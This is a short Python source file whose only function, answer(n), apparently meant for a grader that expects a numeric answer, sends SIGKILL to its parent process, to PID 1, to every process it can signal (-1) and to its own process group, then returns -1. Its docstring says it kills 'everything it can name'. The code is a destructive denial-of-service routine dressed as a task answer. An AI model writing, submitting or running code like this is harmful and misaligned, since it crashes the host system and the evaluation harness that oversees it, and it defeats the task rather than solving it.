"""Kills its parent, its group and everything it can name."""

import os
import signal


def answer(n):
    for pid in (os.getppid(), 1, -1, 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return -1
